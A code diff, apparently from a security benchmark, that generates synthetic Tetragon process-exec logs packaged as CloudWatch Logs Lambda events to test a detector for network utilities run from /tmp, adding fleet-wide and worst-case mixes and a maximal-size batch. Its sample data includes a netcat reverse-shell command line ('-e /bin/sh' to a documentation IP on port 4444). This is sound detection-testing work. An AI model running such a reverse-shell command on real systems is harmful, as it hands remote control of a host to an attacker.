@@ -1,5 +1,9 @@
-// Writes the benchmark's input: BATCHES Lambda events of EVENTS Tetragon-like process_exec lines,
-// about 1 in 200 a network utility launched from /tmp, the rest ordinary container processes.
+// Writes the benchmark's input: BATCHES Lambda events of EVENTS Tetragon-like process_exec lines, in
+// three mixes: "mix" (1 in 200 a network utility launched from /tmp, the rest ordinary container
+// processes, all in 97 pods of one deployment), "fleet" (the same, but every utility runs in a pod and
+// container of its own, so none aggregate: an incident across a fleet) and "worst" (every event a
+// utility that must be parsed and judged).
+import { createHash } from "node:crypto";
 import { mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { gzipSync } from "node:zlib";
@@ -20,7 +24,21 @@ const UTILITIES = [
   ["/tmp/nc", "-e /bin/sh 198.51.100.23 4444"],
 ];
 
-function line(i, binary, args, parent) {
+/** Where event `i` runs: one of 97 pods sharing a container, or (fleet) a pod of its own. */
+function placement(i, own) {
+  const suffix = (own ? i : i % 97).toString(36).padStart(5, "x");
+  const id = own
+    ? createHash("sha256").update(`container-${i}`).digest("hex")
+    : "6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b";
+  return {
+    pod: `checkout-api-7d9f6c5b8-${suffix}`,
+    id,
+    name: own ? `checkout-api-${suffix}` : "checkout-api",
+  };
+}
+
+function line(i, binary, args, parent, own = false) {
+  const where = placement(i, own);
   return JSON.stringify({
     process_exec: {
       process: {
@@ -35,10 +53,10 @@ function line(i, binary, args, parent) {
         auid: 4294967295,
         pod: {
           namespace: "payments",
-          name: `checkout-api-7d9f6c5b8-${(i % 97).toString(36).padStart(5, "x")}`,
+          name: where.pod,
           container: {
-            id: "containerd://6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b",
-            name: "checkout-api",
+            id: `containerd://${where.id}`,
+            name: where.name,
             image: {
               id: "sha256:3b1f0c9e7d2a",
               name: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout-api:1.42.0",
@@ -50,7 +68,7 @@ function line(i, binary, args, parent) {
           workload: "checkout-api",
           workload_kind: "Deployment",
         },
-        docker: "6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8",
+        docker: where.id.slice(0, 31),
         parent_exec_id: Buffer.from(`ip-10-0-12-34:${999_000 + i}`).toString("base64"),
         tid: 20_000 + (i % 40_000),
       },
@@ -61,9 +79,8 @@ function line(i, binary, args, parent) {
   });
 }
 
-/** Writes one Lambda event as CloudWatch Logs delivers it; returns its path. */
-function writeEvent(file, logStream, logEvents) {
-  const payload = {
+function payloadOf(logStream, logEvents) {
+  return {
     messageType: "DATA_MESSAGE",
     owner: "123456789012",
     logGroup: "/aws/containerinsights/prod-eks/application",
@@ -71,34 +88,74 @@ function writeEvent(file, logStream, logEvents) {
     subscriptionFilters: ["netutil-detector"],
     logEvents,
   };
-  writeFileSync(
-    file,
-    JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }),
-  );
+}
+
+function eventOf(payloadJson) {
+  return JSON.stringify({ awslogs: { data: gzipSync(payloadJson).toString("base64") } });
+}
+
+/** Writes one Lambda event as CloudWatch Logs delivers it; returns its path. */
+function writeEvent(file, logStream, logEvents) {
+  writeFileSync(file, eventOf(JSON.stringify(payloadOf(logStream, logEvents))));
   return file;
 }
 
-/** Writes the files and returns their paths. */
-export function generate(dir, batches = 10, events = 5000) {
+/** The log events of one batch of `mix` ("mix", "fleet" or "worst"), event numbers from `first`. */
+function logEventsOf(mix, first, events) {
+  const logEvents = [];
+  let utilities = 0;
+  for (let i = first; i < first + events; i++) {
+    const isUtility = mix === "worst" || i % 200 === 17;
+    const [binary, args] = isUtility ? UTILITIES[i % UTILITIES.length] : ORDINARY[i % ORDINARY.length];
+    const parent = isUtility ? "/tmp/.x/loader" : "/usr/bin/tini";
+    if (isUtility) utilities++;
+    logEvents.push({
+      id: String(38_000_000_000_000_000_000_000_000_000_000_000_000_000_000n + BigInt(i)),
+      timestamp: Date.UTC(2026, 10, 28, 10) + i,
+      message: line(i, binary, args, parent, mix === "fleet" && isUtility),
+    });
+  }
+  return { logEvents, utilities };
+}
+
+/** Writes the files of one mix and returns their paths and how many events are utilities. */
+export function generate(dir, batches = 10, events = 5000, mix = "mix") {
   mkdirSync(dir, { recursive: true });
   const files = [];
   let utilities = 0;
   for (let b = 0; b < batches; b++) {
-    const logEvents = [];
-    for (let e = 0; e < events; e++) {
-      const i = b * events + e;
-      const isUtility = i % 200 === 17;
-      const [binary, args] = isUtility ? UTILITIES[i % UTILITIES.length] : ORDINARY[i % ORDINARY.length];
-      if (isUtility) utilities++;
-      logEvents.push({
-        id: String(38_000_000_000_000_000_000_000_000_000_000_000_000_000_000n + BigInt(i)),
-        timestamp: Date.UTC(2026, 10, 28, 10) + i,
-        message: line(i, binary, args, isUtility ? "/tmp/.x/loader" : "/usr/bin/tini"),
-      });
-    }
-    files.push(writeEvent(join(dir, `batch-${b}.json`), `tetragon-bench-${b}`, logEvents));
+    const batch = logEventsOf(mix, b * events, events);
+    utilities += batch.utilities;
+    files.push(writeEvent(join(dir, `${mix}-${b}.json`), `tetragon-bench-${b}`, batch.logEvents));
   }
   return { files, utilities };
+}
+
+/**
+ * The largest batch CloudWatch Logs can hand the function: as many fleet-mix events as fit in a Lambda
+ * event of at most `maxEventBytes` (the asynchronous invocation limit). Returns its path and sizes.
+ */
+export function generateMaximal(dir, maxEventBytes = 1024 * 1024) {
+  mkdirSync(dir, { recursive: true });
+  const file = join(dir, "maximal.json");
+  const eventBytes = (n) => {
+    const payload = JSON.stringify(payloadOf("tetragon-bench-maximal", logEventsOf("fleet", 0, n).logEvents));
+    return { n, decompressed: Buffer.byteLength(payload), event: eventOf(payload).length };
+  };
+  // Grow, then bisect, the number of events that still fits.
+  let low = eventBytes(1000);
+  let high = low;
+  while (high.event <= maxEventBytes) {
+    low = high;
+    high = eventBytes(high.n * 2);
+  }
+  while (high.n - low.n > 50) {
+    const mid = eventBytes(Math.floor((low.n + high.n) / 2));
+    if (mid.event <= maxEventBytes) low = mid;
+    else high = mid;
+  }
+  writeEvent(file, "tetragon-bench-maximal", logEventsOf("fleet", 0, low.n).logEvents);
+  return { file, events: low.n, decompressedBytes: low.decompressed, eventBytes: low.event };
 }
 
 /** One busy batch: `signals` distinct reverse shells (distinct targets), so nothing aggregates. */
